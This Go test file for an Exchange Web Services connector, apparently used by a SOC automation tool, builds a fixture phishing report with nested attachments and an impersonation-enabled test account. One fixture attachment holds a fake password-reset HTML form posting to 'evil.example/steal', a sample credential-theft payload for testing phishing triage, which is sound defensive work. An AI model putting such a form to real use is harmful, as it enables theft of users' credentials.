package connector_test

import (
	"testing"
	"time"

	"github.com/ewsgo/ews/connector"
	"github.com/ewsgo/ews/internal/testserver"
)

// reportedPhish is a user's report whose attachment is the phishing message, which carries a file and a further
// attached message.
func reportedPhish(reporter string) testserver.Item {
	inner := &testserver.Item{ItemClass: "IPM.Note", Subject: "Reset your password", Body: "click here",
		From: testserver.Address{Name: "IT Desk", Email: "it-desk@evil.example"}, To: []testserver.Address{{Email: reporter}},
		InternetMessageID: "<reset-1@evil.example>",
		Attachments: []testserver.Attachment{
			{Name: "reset.html", ContentType: "text/html", Content: []byte("<form action=http://evil.example/steal>")},
			{Name: "FW: earlier", Item: &testserver.Item{ItemClass: "IPM.Note", Subject: "earlier", Body: "deepest",
				From: testserver.Address{Email: "x@evil.example"}, Attachments: []testserver.Attachment{{Name: "deep.txt", Content: []byte("level 3")}}}},
		}}
	return testserver.Item{Subject: "Phishing report", Body: "Is this phishing?", From: testserver.Address{Email: reporter},
		To: []testserver.Address{{Email: "soc@example.com"}}, DateTimeReceived: time.Date(2024, 3, 1, 9, 0, 0, 0, time.UTC),
		InternetMessageID: "<report-1@example.com>",
		Attachments:       []testserver.Attachment{{Name: "Reset your password", Item: inner}}}
}

// setupImpersonation starts a server whose service account may impersonate, with the mailboxes given, and
// returns a configuration with access_type Impersonation.
func setupImpersonation(t *testing.T, mailboxes ...string) (*testserver.Server, connector.Config) {
	t.Helper()
	srv := testserver.New(t, testserver.WithUser(testserver.User{Username: `CORP\svc-soar`, Password: "Secret-Passw0rd!",
		Email: "soc@example.com", CanImpersonate: true}))
	for _, m := range mailboxes {
		srv.AddMailbox(m, "")
	}
	return srv, connector.Config{Host: srv.URL, Username: srv.Username(), Password: srv.Password(),
		EmailAddress: srv.Email(), AuthType: "ntlm", AccessType: "Impersonation"}
}
